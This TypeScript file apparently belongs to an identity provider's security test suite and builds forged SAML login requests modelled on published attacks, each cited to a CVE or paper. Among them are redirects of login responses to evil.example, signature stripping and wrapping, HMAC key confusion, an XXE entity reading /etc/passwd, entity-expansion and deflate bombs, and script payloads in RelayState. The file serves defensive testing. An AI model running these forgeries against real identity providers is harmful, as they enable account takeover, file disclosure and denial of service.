/** Published attacks on identity providers: what is sent to them as the request of a service provider. */
import { createSign } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import type { SamlKey } from '@keyward/core/ports';
import { signElement } from '../../../../saml-node/src/sign-element.js';
import {
  ahead,
  certificateInfo,
  elementDigest,
  hmacSha1,
  idOf,
  insideOf,
  rsaSha1,
  rsaSha256,
  signatureIn,
  signatureOf,
  signedBy,
  withId,
  without,
} from './forging.js';

interface Party {
  readonly entity: string;
  readonly acs: string;
  readonly slo: string;
  readonly key: SamlKey;
}

export interface AskedOf {
  /** Whose person the attacker wants. */
  readonly shop: Party;
  /** An application that the attacker runs, and that is registered as well. */
  readonly own: Party;
  readonly issuer: string;
}

export interface Message {
  readonly path: 'sso' | 'slo';
  readonly query?: string;
  readonly form?: Readonly<Record<string, string>>;
}

export interface RequestAttack {
  readonly name: string;
  readonly source: string;
  readonly forge: (asked: AskedOf) => Promise<Message> | Message;
  /** Whether it is harmless, so that the application gets its answer. */
  readonly answered?: boolean;
}

export const prefix = 'urn:oasis:names:tc:SAML:2.0';
const evil = 'https://evil.example/acs';
let requests = 0;

/** A request as a service provider writes it, in canonical form. */
export const loginRequest = ({ shop, issuer }: AskedOf, members = '', children = ''): string =>
  `<samlp:AuthnRequest xmlns:samlp="${prefix}:protocol" xmlns:saml="${prefix}:assertion"` +
  ` AssertionConsumerServiceURL="${shop.acs}" Destination="${issuer}/saml/sso"` +
  ` ID="_asked${(requests += 1)}" IssueInstant="${new Date().toISOString()}" Version="2.0"${members}>` +
  `<saml:Issuer>${shop.entity}</saml:Issuer>${children}</samlp:AuthnRequest>`;

const posted = (xml: string, RelayState = 'state'): Message => ({
  path: 'sso',
  form: { SAMLRequest: Buffer.from(xml).toString('base64'), RelayState },
});

export const packed = (xml: string | Buffer): string =>
  encodeURIComponent(deflateRawSync(Buffer.from(xml)).toString('base64'));

interface QuerySigning {
  readonly algorithm?: string;
  readonly hash?: string;
  readonly relayState?: string;
}

export const signedQuery = (
  xml: string,
  { privateKey }: SamlKey,
  { algorithm = rsaSha256, hash = 'RSA-SHA256', relayState = 'state' }: QuerySigning = {},
): string => {
  const state = encodeURIComponent(relayState);
  const text = `SAMLRequest=${packed(xml)}&RelayState=${state}&SigAlg=${encodeURIComponent(algorithm)}`;
  const signature = createSign(hash).update(text).sign(privateKey, 'base64');
  return `${text}&Signature=${encodeURIComponent(signature)}`;
};

const redirected = (query: string): Message => ({ path: 'sso', query });

/** By the key of the application, as it would do it itself. */
const sound = (asked: AskedOf) => ({
  query: redirected(signedQuery(loginRequest(asked), asked.shop.key)),
  form: signElement(loginRequest(asked), asked.shop.key).then((xml) => posted(xml)),
});

/** A signed request in a form, and what an attacker makes of it. */
const onForm =
  (edit: (xml: string, asked: AskedOf) => string): RequestAttack['forge'] =>
  async (asked) =>
    posted(edit(await signElement(loginRequest(asked), asked.shop.key), asked));

/** An address that the application itself would never ask for, under its signature. */
const askedFor =
  (url: (acs: string) => string): RequestAttack['forge'] =>
  (asked) =>
    redirected(
      signedQuery(loginRequest(asked).replace(asked.shop.acs, url(asked.shop.acs)), asked.shop.key),
    );

const elsewhere = (xml: string, { shop }: AskedOf): string => xml.replace(shop.acs, evil);

const evilQuery = (asked: AskedOf): string =>
  `SAMLRequest=${packed(elsewhere(loginRequest(asked), asked))}`;

const spoofing = 'Mainka et al., Your Software at My Service, 2014 (ACS spoofing)';
const breakingSaml = 'Somorovsky et al., On Breaking SAML, 2012';

const addresses: readonly RequestAttack[] = [
  { name: 'an address of another host', source: spoofing, forge: askedFor(() => evil) },
  {
    name: 'an address that begins as the registered one',
    source: spoofing,
    forge: askedFor((acs) => `${acs}/../../evil`),
  },
  {
    name: 'an address with a user before another host',
    source: 'RFC 9700 §4.1.1; Mainka et al., 2014',
    forge: askedFor((acs) => `${acs.replace('/acs', '')}@evil.example/acs`),
  },
  {
    name: 'an address in other letters',
    source: spoofing,
    forge: askedFor((acs) => acs.replace('/acs', '/ACS')),
  },
  {
    name: 'an address that is a script',
    source: 'CVE-2023-45683 (crewjam/saml)',
    forge: askedFor(() => 'javascript:alert(1)'),
  },
  {
    name: 'an address by its number',
    source: 'SAML Core §3.4.1.1',
    forge: (asked) =>
      redirected(
        signedQuery(
          loginRequest(asked).replace(
            `AssertionConsumerServiceURL="${asked.shop.acs}"`,
            'AssertionConsumerServiceIndex="1"',
          ),
          asked.shop.key,
        ),
      ),
  },
  {
    name: 'an answer by another binding',
    source: 'SAML Core §3.4.1',
    forge: (asked) =>
      redirected(
        signedQuery(
          loginRequest(asked, ` ProtocolBinding="${prefix}:bindings:SOAP"`),
          asked.shop.key,
        ),
      ),
  },
];

const signatures: readonly RequestAttack[] = [
  {
    name: 'a request without the signature that is required',
    source: `${breakingSaml}; CVE-2020-2021 (PAN-OS)`,
    forge: (asked) => redirected(`SAMLRequest=${packed(loginRequest(asked))}`),
  },
  {
    name: 'a signature that is taken off',
    source: breakingSaml,
    forge: onForm((xml) => without(xml, signatureIn(xml))),
  },
  {
    name: 'a changed address under a signature',
    source: breakingSaml,
    forge: onForm(elsewhere),
  },
  {
    name: 'a signature by SHA-1',
    source: 'Stevens et al., The First Collision for Full SHA-1, 2017',
    forge: (asked) =>
      redirected(
        signedQuery(loginRequest(asked), asked.shop.key, { algorithm: rsaSha1, hash: 'RSA-SHA1' }),
      ),
  },
  {
    name: 'an algorithm that nobody knows, so that the check fails in its own way',
    source: 'CVE-2018-7711 (simplesamlphp/saml2)',
    forge: (asked) =>
      redirected(signedQuery(loginRequest(asked), asked.shop.key, { algorithm: 'urn:none' })),
  },
  {
    name: 'the public key as the secret of an HMAC',
    source: 'GHSA-c27r-x354-4m68 (xml-crypto)',
    forge: (asked) => {
      const xml = loginRequest(asked);
      const signing = { id: idOf(xml), digest: elementDigest(xml), method: hmacSha1 };
      return posted(signedBy(xml, signatureOf(signing, asked.shop.key)));
    },
  },
  {
    name: 'a key of the attacker, with its certificate',
    source: 'CVE-2024-32962 (xml-crypto)',
    forge: (asked) => {
      const xml = loginRequest(asked);
      const signing = { id: idOf(xml), digest: elementDigest(xml) };
      const keyInfo = certificateInfo(asked.own.key);
      return posted(signedBy(xml, signatureOf(signing, asked.own.key, { keyInfo })));
    },
  },
  {
    name: 'a request of one application that another one signed',
    source: 'Mainka et al., Your Software at My Service, 2014',
    forge: (asked) => redirected(signedQuery(loginRequest(asked), asked.own.key)),
  },
  {
    name: 'two requests in one address, of which the first is signed',
    source: 'CVE-2025-27773 (simplesamlphp/saml2)',
    forge: (asked) => redirected(`${sound(asked).query.query}&${evilQuery(asked)}`),
  },
  {
    name: 'two requests in one address, of which the second is signed',
    source: 'CVE-2025-27773 (simplesamlphp/saml2)',
    forge: (asked) => redirected(`${evilQuery(asked)}&${sound(asked).query.query}`),
  },
  {
    name: 'an answer beside the request that is signed',
    source: 'CVE-2025-27773 (simplesamlphp/saml2)',
    forge: (asked) => {
      const signed = signedQuery(loginRequest(asked), asked.shop.key).replace(
        'SAMLRequest',
        'SAMLResponse',
      );
      return redirected(`${evilQuery(asked)}&${signed}`);
    },
  },
  {
    name: 'another relay state under a signature',
    source: 'SAML Bindings §3.4.4.1',
    forge: (asked) =>
      redirected(
        signedQuery(loginRequest(asked), asked.shop.key).replace(
          'RelayState=state',
          'RelayState=other',
        ),
      ),
  },
  {
    name: 'XSW: the signed request in the object of its signature',
    source: breakingSaml,
    forge: onForm((xml, asked) => {
      const inner = without(xml, signatureIn(xml));
      const outer = elsewhere(withId(xml, '_forged'), asked);
      return insideOf(outer, 'ds:Signature', `<ds:Object>${inner}</ds:Object>`);
    }),
  },
  {
    name: 'XSW: the signed request behind the signature of a forged one',
    source: breakingSaml,
    forge: onForm((xml, asked) =>
      insideOf(
        elsewhere(withId(xml, '_forged'), asked),
        'samlp:AuthnRequest',
        without(xml, signatureIn(xml)),
      ),
    ),
  },
  {
    name: 'XSW: the signed request, whole, among the extensions of a forged one',
    source: 'CVE-2020-5407 (Spring Security)',
    forge: onForm((xml, asked) =>
      insideOf(
        elsewhere(without(withId(xml, '_forged'), signatureIn(xml)), asked),
        'samlp:AuthnRequest',
        `<samlp:Extensions>${xml}</samlp:Extensions>`,
      ),
    ),
  },
  {
    name: 'a second root behind the signed request',
    source: 'CVE-2022-39353 (xmldom)',
    forge: onForm((xml, asked) => xml + elsewhere(without(xml, signatureIn(xml)), asked)),
  },
  {
    name: 'a comment that divides the digest',
    source: 'CVE-2025-29775 (xml-crypto)',
    forge: onForm((xml, asked) => {
      const forged = elsewhere(xml, asked);
      const digest = elementDigest(without(forged, signatureIn(forged)));
      return forged.replace('<ds:DigestValue>', `<ds:DigestValue><!--${digest}-->`);
    }),
  },
  {
    name: 'a second SignedInfo',
    source: 'CVE-2025-29774 (xml-crypto)',
    forge: onForm((xml, asked) => {
      const forged = elsewhere(xml, asked);
      const digest = elementDigest(without(forged, signatureIn(forged)));
      const signature = signatureOf({ id: idOf(forged), digest }, asked.own.key);
      const [info] = /<ds:SignedInfo.*<\/ds:SignedInfo>/s.exec(signature)!;
      return ahead(forged, '<ds:SignedInfo', info);
    }),
  },
];

const documents: readonly RequestAttack[] = [
  {
    name: 'an entity that reads a file',
    source: 'CVE-2016-10127 (pysaml2)',
    forge: onForm(
      (xml) =>
        `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${xml.replace('</saml:Issuer>', '&e;</saml:Issuer>')}`,
    ),
  },
  {
    name: 'a document type at another host',
    source: 'CVE-2013-6440 (OpenSAML)',
    forge: onForm((xml) => `<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">${xml}`),
  },
  {
    name: 'entities that grow',
    source: 'CVE-2003-1564 (libxml2)',
    forge: onForm(
      (xml) => `<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "${'&a;'.repeat(1000)}">]>${xml}`,
    ),
  },
  {
    name: 'a request that unpacks to gigabytes',
    source: 'CVE-2023-28119 (crewjam/saml)',
    forge: () => redirected(`SAMLRequest=${packed(Buffer.alloc(5_000_000, ' ')).slice(0, 6000)}`),
  },
  {
    name: 'an issuer that a comment cuts short',
    source: 'CVE-2017-11427 (python-saml)',
    forge: (asked) => {
      const xml = loginRequest(asked).replace(
        '</saml:Issuer>',
        '<!---->.evil.example</saml:Issuer>',
      );
      return redirected(signedQuery(xml, asked.shop.key));
    },
  },
  {
    name: 'two issuers',
    source: 'CVE-2025-25291 (ruby-saml)',
    forge: (asked) =>
      redirected(
        signedQuery(
          loginRequest(asked, '', `<saml:Issuer>${asked.own.entity}</saml:Issuer>`),
          asked.shop.key,
        ),
      ),
  },
  {
    name: 'a script as the relay state',
    source: 'OWASP, SAML Security Cheat Sheet; SAML Bindings §3.4.3',
    forge: (asked) =>
      redirected(
        signedQuery(loginRequest(asked), asked.shop.key, {
          relayState: '"><script>alert(1)</script>',
        }),
      ),
    answered: true,
  },
  {
    name: 'a script as the id',
    source: 'OWASP, Cross Site Scripting Prevention Cheat Sheet',
    forge: (asked) =>
      redirected(
        signedQuery(
          withId(loginRequest(asked), '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'),
          asked.shop.key,
        ),
      ),
  },
  {
    name: 'a relay state without end',
    source: 'SAML Bindings §3.4.3',
    forge: async (asked) =>
      posted(await signElement(loginRequest(asked), asked.shop.key), 'x'.repeat(2001)),
  },
];

const impostures: readonly RequestAttack[] = [
  {
    name: 'a person that the request names',
    source: 'SAML Core §3.4.1',
    forge: (asked) =>
      redirected(
        signedQuery(
          loginRequest(asked, '', '<saml:Subject><saml:NameID>admin</saml:NameID></saml:Subject>'),
          asked.shop.key,
        ),
      ),
  },
  {
    name: 'a name in a form that tells more',
    source: 'SAML Core §3.4.1.1',
    forge: (asked) =>
      redirected(
        signedQuery(
          loginRequest(
            asked,
            '',
            '<samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"/>',
          ),
          asked.shop.key,
        ),
      ),
  },
  {
    name: 'a request for another server',
    source: 'Armando et al., Formal Analysis of SAML 2.0 Web Browser Single Sign-On, 2008',
    forge: (asked) =>
      redirected(
        signedQuery(
          loginRequest(asked).replace(`${asked.issuer}/saml/sso`, 'https://other.example/saml/sso'),
          asked.shop.key,
        ),
      ),
  },
  {
    name: 'a request of yesterday',
    source: 'Mainka et al., Your Software at My Service, 2014',
    forge: (asked) => {
      const yesterday = new Date(Date.now() - 86_400_000).toISOString();
      const xml = loginRequest(asked).replace(
        /IssueInstant="[^"]*"/,
        `IssueInstant="${yesterday}"`,
      );
      return redirected(signedQuery(xml, asked.shop.key));
    },
  },
  {
    name: 'a time that takes long to read',
    source: 'CVE-2018-6519 (simplesamlphp/saml2)',
    forge: (asked) => {
      const time = `2026-01-01T00:00:00.${'0'.repeat(20_000)}`;
      const xml = loginRequest(asked).replace(/IssueInstant="[^"]*"/, `IssueInstant="${time}"`);
      return redirected(signedQuery(xml, asked.shop.key));
    },
  },
];

export const attacksByRequest = {
  sound,
  table: [...addresses, ...signatures, ...documents, ...impostures],
};
